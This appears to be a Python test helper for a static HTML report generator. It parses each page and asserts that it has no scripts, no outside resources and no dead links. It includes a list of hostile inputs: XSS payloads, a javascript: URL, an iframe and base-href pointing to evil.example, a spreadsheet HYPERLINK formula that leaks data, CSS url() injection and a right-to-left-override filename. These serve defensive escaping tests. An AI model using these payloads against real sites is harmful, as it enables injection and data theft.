"""What holds of every page: nothing from outside, no script, no dead links, a table behind every chart."""

from __future__ import annotations

from html.parser import HTMLParser

ALLOWED = {
    "html", "head", "meta", "link", "title", "style", "body", "a", "header", "h1", "h2", "h3", "p", "strong", "small",
    "nav", "ol", "ul", "li", "main", "section", "div", "table", "caption", "thead", "tbody", "tr", "th", "td", "figure",
    "figcaption", "details", "summary", "dl", "dt", "dd", "ins", "del", "span", "footer", "svg", "g", "defs", "path",
    "use", "text",
}  # fmt: skip

HOSTILE = (
    "<script>window.hacked=1</script>",
    '"><img src=x onerror=window.hacked=1>',
    "</style><script>window.hacked=1</script>",
    "</title><script>window.hacked=1</script>",
    "</svg><iframe src=//evil.example></iframe>",
    "javascript:window.hacked=1",
    "x' onmouseover='window.hacked=1",
    '=HYPERLINK("http://evil.example/?leak","open")',
    "{{ 7 * 7 }}{% raw %}",
    "<!-- --><base href=http://evil.example/>",
    "url(http://evil.example/x); } body { display: none",
    "abc\u202egnp.exe\u2066",
    "\x1b[31mred\x1b[0m",
    "a\ud800b",
    "&lt;script&gt;",
)
"""Titles, ids and words as an enemy would choose them."""


class PageReader(HTMLParser):
    """Reads a page as a browser would, and refuses what no page may hold."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.ids: list[str] = []
        self.links: list[str] = []
        self.tags: list[str] = []
        self.words: list[str] = []
        self.styles: list[str] = []
        self.tips: list[str] = []
        self._open: list[str] = []
        self.feed(html)
        self.close()
        assert html.lstrip().startswith("<!doctype html>")
        assert "Content-Security-Policy" in html
        assert html.replace("\n", "").isprintable()
        assert self._open == []
        assert len(self.ids) == len(set(self.ids))
        dead = [link for link in self.links if link.startswith("#") and link[1:] not in self.ids]
        assert dead == []
        css = "".join(self.styles)
        assert "url(" not in css
        assert "@import" not in css
        assert self.tags.count("figure") <= self.tags.count("table") + self.tags.count("figcaption")

    @property
    def text(self) -> str:
        """All that a reader sees or is told."""
        return " ".join(" ".join([*self.words, *self.tips]).split())

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self._start(tag, attributes)
        if tag not in ("meta", "link"):
            self._open.append(tag)

    def handle_startendtag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self._start(tag, attributes)

    def _start(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        self.tags.append(tag)
        found = dict(attributes)
        assert not [name for name in found if name.startswith("on") or name in ("style", "src", "srcset", "action")]
        if "id" in found:
            self.ids.append(str(found["id"]))
        if "href" in found:
            self.links.append(str(found["href"]))
            assert found["href"] in ("data:,", "ratings.csv") or str(found["href"]).startswith("#")
        if tag == "svg":
            assert found.get("role") == "img"
            assert found.get("aria-label")

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        inside = self._open[-1] if self._open else ""
        place = self.styles if inside == "style" else self.tips if inside == "title" else self.words
        place.append(data)
